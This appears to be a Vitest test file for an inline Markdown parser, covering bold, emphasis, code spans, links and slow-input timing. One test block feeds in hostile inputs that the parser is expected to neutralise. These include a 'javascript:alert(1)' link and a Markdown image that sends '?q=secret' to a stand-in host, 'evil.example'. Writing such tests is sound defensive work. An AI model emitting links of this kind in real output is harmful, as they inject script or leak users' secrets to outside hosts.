import { describe, expect, it } from "vitest";
import { runsOf } from "../src/text/inline";

function shown(text: string): string {
  return runsOf(text, 0, text.length)
    .map(({ start, end, style }) => {
      const words = text.slice(start, end);
      const names = Object.entries(style).map(([name, value]) => (name === "href" ? `→${value}` : name.slice(2, 4).toLowerCase()));
      return names.length === 0 ? words : `{${names.join(" ")}: ${words}}`;
    })
    .join("");
}

describe("Markdown inside a block", () => {
  it.each([
    ["It is **very** old.", "It is {st: very} old."],
    ["*old* _oaks_", "{em: old} {em: oaks}"],
    ["**very *old* oaks**", "{st: very }{st em: old}{st:  oaks}"],
    ["call `f(**x**)` now", "call {co: f(**x**)} now"],
    ["see [the **site**](https://a.example/b?c=1) there", "see {→https://a.example/b?c=1: the }{→https://a.example/b?c=1 st: site} there"],
    ["see [oaks](https://a.example/Oak_(tree)) (there)", "see {→https://a.example/Oak_(tree): oaks} (there)"],
  ])("reads %s", (text, expected) => expect(shown(text)).toBe(expected));

  it.each(["snake_case_name", "A__B or C__D", "__init__ and __new__", "2 * 3 * 4", "a*b*c", "** not bold **", "[1]", "5 ** 2", "*", "`", "[a](b)", "\\n"])(
    "leaves %s alone",
    (text) => expect(shown(text)).toBe(text),
  );

  it.each([
    ["[x](javascript:alert(1))", "[x](javascript:alert(1))"],
    ["[x](data:text/html,hi)", "[x](data:text/html,hi)"],
    ["[x]( https://a.example)", "[x]( https://a.example)"],
    ["<a href=x>y</a>", "<a href=x>y</a>"],
    ["![seen](https://evil.example/?q=secret)", "{pi: seen}"],
    ["![](https://evil.example/)", ""],
  ])("makes nothing dangerous of %s", (text, expected) => expect(shown(text)).toBe(expected));

  it("takes no longer for a text that is made to be slow", () => {
    const started = performance.now();
    for (const piece of ["*a ", "**", "[", "`", "_a", "![](", "**a*"]) runsOf(piece.repeat(4000), 0, piece.length * 4000);
    expect(performance.now() - started).toBeLessThan(3000);
  });
});
